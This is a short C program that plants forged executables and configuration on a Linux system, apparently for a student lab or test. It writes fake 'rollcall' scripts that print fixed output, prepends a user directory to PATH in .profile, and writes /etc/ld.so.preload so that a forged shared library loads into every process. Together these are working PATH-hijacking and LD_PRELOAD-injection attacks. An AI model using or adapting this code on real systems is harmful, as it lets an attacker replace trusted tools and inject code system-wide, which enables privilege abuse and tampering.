// SPDX-License-Identifier: GPL-2.0
/* Would be found before the real tools. */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void plant(const char *path, const char *text)
{
	FILE *file = fopen(path, "w");

	if (!file)
		return;
	fputs(text, file);
	fclose(file);
	chmod(path, 0755);
}

int main(void)
{
	mkdir("/home/student/bin", 0755);
	plant("/home/student/bin/rollcall", "#!/bin/sh\necho 1 1000 99999999\n");
	plant("/home/student/.profile", "PATH=/home/student/bin:$PATH\n");
	plant("/tmp/rollcall", "#!/bin/sh\necho 1 1000 99999999\n");
	plant("/etc/ld.so.preload", "/home/student/forged.so\n");
	setenv("PATH", "/home/student/bin", 1);
	pause();
	return 0;
}
